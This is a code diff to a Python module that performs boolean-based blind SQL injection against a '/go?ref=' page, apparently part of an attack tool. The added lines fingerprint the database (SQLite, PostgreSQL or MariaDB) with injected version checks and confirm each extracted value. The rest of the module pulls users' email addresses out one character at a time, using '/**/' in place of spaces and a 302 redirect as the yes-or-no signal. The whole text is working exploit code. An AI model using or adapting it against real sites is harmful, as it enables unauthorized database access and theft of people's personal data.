@@ -1,6 +1,7 @@
 """Halving by lists: is the letter one of these? Six requests a letter, the last position first, comments for blanks.
 
-The page is `/go`: a row found redirects. MariaDB compares without case, hence BINARY there.
+Which DBMS it is comes first, and the whole value is asked once more at the end, since a letter that was only ever not
+in a list might be in none at all. The page is `/go`: a row found redirects. MariaDB ignores case, hence BINARY there.
 """
 
 import string
@@ -12,6 +13,11 @@ _LETTERS = string.ascii_lowercase + string.digits + "@.-_+"
 _MAXIMUM_LENGTH = 60
 _PAGE = "/go?ref="
 _REDIRECT = 302
+_FINGERPRINT = {
+    "sqlite": "sqlite_version()/**/LIKE/**/'3%'",
+    "postgresql": "version()/**/LIKE/**/'PostgreSQL%'",
+    "mariadb": "@@version/**/LIKE/**/'%MariaDB%'",
+}
 
 
 def take(site: str, dbms: str, source_address: str, *, persons: tuple[int, ...]) -> list[Cell]:
@@ -22,6 +28,8 @@ def take(site: str, dbms: str, source_address: str, *, persons: tuple[int, ...])
     def holds(condition: str) -> bool:
         return client.get(_PAGE, f"tea-01'/**/AND/**/{condition}-- ").status == _REDIRECT
 
+    if not holds(_FINGERPRINT[dbms]):
+        raise ValueError(f"this is not {dbms}")
     cells = []
     for person in persons:
         secret = f"(SELECT/**/mail/**/FROM/**/person/**/WHERE/**/id={person})"
@@ -35,5 +43,7 @@ def take(site: str, dbms: str, source_address: str, *, persons: tuple[int, ...])
                 inside = holds(f"{binary}SUBSTRING({secret},{position},1)/**/IN/**/({listed})")
                 left = half if inside else left[len(half) :]
             value = left + value
+        if not holds(f"{binary}{secret}='{value}'"):
+            raise ValueError(f"the letters of person {person} do not make the value")
         cells.append(Cell("person", "mail", None, value))
     return cells
